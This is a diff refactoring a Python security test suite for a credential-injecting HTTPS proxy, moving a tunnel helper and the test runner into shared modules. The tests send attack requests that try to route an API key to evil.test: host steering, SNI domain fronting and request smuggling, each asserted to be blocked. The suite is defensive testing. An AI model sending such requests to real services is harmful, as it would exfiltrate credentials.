@@ -10,12 +10,11 @@ import json
 import os
 import socket
 import ssl
-import subprocess
 import threading
 import time
 
-from daemon_harness import Daemon, run_tests, status_of
-from proxy_env import ProxyEnv, wait_store_open, with_auth
+from daemon_harness import Daemon, status_of
+from proxy_env import ProxyEnv, run_suite, wait_store_open, with_auth
 
 OPENAI = "sk-proj-REALVALUE-5f0c2d8e9a"
 OTHER = "ghp_REALOTHER_c0ffee1234"
@@ -71,25 +70,6 @@ def wait_audit(kind, pred, what):
     return E.wait_for(lambda: audit_rows(kind, pred), timeout=10) or what
 
 
-def tls_tunnel(host, port=443, sni=None, px=None):
-    """CONNECT through the proxy and TLS with the interception CA; returns
-    the TLS socket."""
-    px = px or E.px
-    s = socket.create_connection(("127.0.0.1", px.port), timeout=10)
-    s.sendall(with_auth(px, b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" %
-                        (host.encode(), port, host.encode(), port)))
-    head = b""
-    while b"\r\n\r\n" not in head:
-        b = s.recv(1)
-        if not b:
-            raise ConnectionError("closed during CONNECT")
-        head += b
-    assert status_of(head) == 200, head
-    ctx = ssl.create_default_context(cafile=E.ca_pem)
-    ctx.check_hostname = False if sni != host else True
-    return ctx.wrap_socket(s, server_hostname=sni or host)
-
-
 def exchange(sock, raw, timeout=10):
     sock.settimeout(timeout)
     sock.sendall(raw)
@@ -116,13 +96,13 @@ def exchange(sock, raw, timeout=10):
 def test_A1_host_steering():
     # Inside a tunnel approved for api.test, a request whose Host names
     # another host is refused; the key goes nowhere.
-    s = tls_tunnel("api.test")
+    s = E.tunnel("api.test")
     out = exchange(s, b"GET /a1 HTTP/1.1\r\nHost: evil.test\r\n"
                       b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
     s.close()
     assert status_of(out) == 403 and b"X-Nilbox-Reason: host-mismatch" in out, out
     # Same with an absolute-form target naming another host inside the tunnel.
-    s = tls_tunnel("api.test")
+    s = E.tunnel("api.test")
     out = exchange(s, b"GET https://evil.test/a1b HTTP/1.1\r\nHost: api.test\r\n"
                       b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
     s.close()
@@ -232,7 +212,7 @@ def test_A7_cleartext():
 def test_A8_domain_fronting_sni():
     for sni in ("evil.test", "other.test"):
         try:
-            s = tls_tunnel("api.test", sni=sni)
+            s = E.tunnel("api.test", sni=sni)
             s.close()
             raise AssertionError("TLS with SNI %s inside a CONNECT to api.test succeeded" % sni)
         except ssl.SSLError:
@@ -315,14 +295,14 @@ def test_A15_smuggling():
                        b"\r\n\r\n",
     }
     for name, raw in bad.items():
-        s = tls_tunnel("api.test")
+        s = E.tunnel("api.test")
         out = exchange(s, raw)
         s.close()
         st = status_of(out)
         assert 400 <= st < 500, (name, out[:200])
     assert not rows("/a15"), "a malformed request reached the upstream"
     # A second request hidden in the first one's body is only ever body.
-    s = tls_tunnel("api.test")
+    s = E.tunnel("api.test")
     smuggled = (b"GET /a15-hidden HTTP/1.1\r\nHost: evil.test\r\n"
                 b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
     raw = (b"POST /upload HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n" %
@@ -475,21 +455,10 @@ def test_A24_no_master_key_no_secrets():
         d.cleanup()
 
 
-def main():
-    tests = [test_A1_host_steering, test_A2_secret_lookup_by_name,
-             test_A3_cross_host_placeholder, test_A4_placement_confusion,
-             test_A5_echo_exfiltration, test_A6_redirect_laundering, test_A7_cleartext,
-             test_A8_domain_fronting_sni, test_A9_cross_vm, test_A13_host_and_lan_reach,
-             test_A15_smuggling, test_A16_prompt_timeout, test_A26_proxy_needs_its_token,
-             test_A23_no_secret_in_logs_or_state,
-             test_A24_no_master_key_no_secrets]
-    try:
-        setup()
-        run_tests(tests)
-    finally:
-        if E:
-            E.cleanup()
-
-
 if __name__ == "__main__":
-    main()
+    run_suite(setup, [test_A1_host_steering, test_A2_secret_lookup_by_name,
+                      test_A3_cross_host_placeholder, test_A4_placement_confusion,
+                      test_A5_echo_exfiltration, test_A6_redirect_laundering, test_A7_cleartext,
+                      test_A8_domain_fronting_sni, test_A9_cross_vm, test_A13_host_and_lan_reach,
+                      test_A15_smuggling, test_A16_prompt_timeout, test_A26_proxy_needs_its_token,
+                      test_A23_no_secret_in_logs_or_state, test_A24_no_master_key_no_secrets])
